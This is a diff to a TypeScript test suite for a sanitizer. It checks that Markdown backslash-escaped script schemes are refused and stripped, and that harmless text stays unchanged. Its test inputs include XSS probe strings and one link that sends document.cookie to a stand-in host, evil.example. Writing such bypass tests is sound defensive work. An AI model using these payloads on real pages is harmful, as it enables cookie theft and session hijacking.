@@ -1,10 +1,14 @@
 import { describe, expect, it } from 'vitest';
 import { hasInvalidContent, sanitizeText } from './sanitize.js';
 
-/** What a browser would see: numeric and the scheme-spelling named references decoded, control characters gone. */
+/**
+ * What a browser would see, or a Markdown viewer would link to: backslash escapes of ASCII punctuation undone,
+ * numeric and the scheme-spelling named references decoded, control characters gone.
+ */
 function readAsBrowser(text: string): string {
   return (
     text
+      .replace(/\\([!-/:-@[-`{-~])/g, '$1')
       .replace(/&#x([0-9a-f]+);?|&#([0-9]+);?/gi, (_, hex?: string, dec?: string) => String.fromCodePoint(Number.parseInt(hex ?? dec ?? '0', hex ? 16 : 10) || 0xfffd))
       .replace(/&colon;/g, ':')
       // eslint-disable-next-line no-control-regex -- a URL parser drops these, so must the check
@@ -28,6 +32,46 @@ describe('sanitizeText: the reported bypasses (docs/decisions/0003-content-valid
   it('refuses the two disguised schemes, as it refuses javascript: written plainly', () => {
     expect(hasInvalidContent('<a href="jav&#x61;script:alert(1)">x</a>')).toBe(true);
     expect(hasInvalidContent('<a href="java&#09;script:alert(1)">x</a>')).toBe(true);
+  });
+});
+
+const PROBE_LINK = '[Open the docs](javascript\\:fetch("https://evil.example/?"+document.cookie))';
+const PROBE_REFERENCE = '[x][r]\n\n[r]: javascript\\:alert(1)';
+
+describe('a Markdown backslash escape hides no scheme: CommonMark reads `\\:` as `:` in a link', () => {
+  it.each([
+    [PROBE_LINK, '[Open the docs](fetch("https://evil.example/?"+document.cookie))'],
+    [PROBE_REFERENCE, '[x][r]\n\n[r]: alert(1)'],
+    ['<javascript\\:alert(1)>', '<alert(1)>'],
+    ['[x](<javascript\\: alert(1)>)', '[x](< alert(1)>)'],
+    ['[x](java&Tab;script\\:alert(1))', '[x](alert(1))'],
+    ['[x](java\nscript\\:alert(1))', '[x](alert(1))'],
+    ['[x](&#x6a;avascript\\:alert(1))', '[x](alert(1))'],
+    ['[x](JavaScript \\:alert(1))', '[x](alert(1))'],
+    ['[x](vbscript\\:msgbox(1))', '[x](msgbox(1))'],
+    ['[x](data\\:text/html,x)', '[x](text/html,x)'],
+    ['[x](\\.javascript\\:alert(1))', '[x](\\.alert(1))'],
+  ])('%j is refused and sanitises to %j', (input, output) => {
+    expect(hasInvalidContent(input)).toBe(true);
+    expect(sanitizeText(input)).toBe(output);
+  });
+
+  it.each([
+    // `\s` is no escape (only ASCII punctuation is): the link is to `java\script:`, which no browser runs.
+    '[x](java\\script:alert(1))',
+    // An escaped backslash leaves a backslash before the colon; a reference is decoded after escapes, not into one.
+    '[x](javascript\\\\:alert(1))',
+    '[x](javascript&#92;:alert(1))',
+    // An escaped `&` is a literal `&`: `&#58;` is not decoded.
+    '[x](javascript\\&#58;alert(1))',
+    // Browsers do not percent-decode a scheme.
+    '[x](javascript%3Aalert(1))',
+    'Translate this to JavaScript\\: {{code}}',
+    'Paths like C:\\temp\\x: and regexes like /a\\:b/ stay',
+    'An image: [chart](data\\:image/png;base64,AAAA)',
+  ])('stays: %j', (text) => {
+    expect(hasInvalidContent(text)).toBe(false);
+    expect(sanitizeText(text)).toBe(text);
   });
 });
 
@@ -171,6 +215,9 @@ describe('sanitizeText: nothing live is left, and it takes time in proportion to
     '<a href="java<iframe>script:alert(1)">',
     '<a href="jav<b onx=1>ascript:alert(1)">',
     '<a href="javascript&#x3a;alert(1)">',
+    PROBE_LINK,
+    PROBE_REFERENCE,
+    '[x](java&#x73;cript\\:alert(1))',
   ];
   it.each(payloads)('%j', (payload) => {
     const clean = readAsBrowser(sanitizeText(payload));
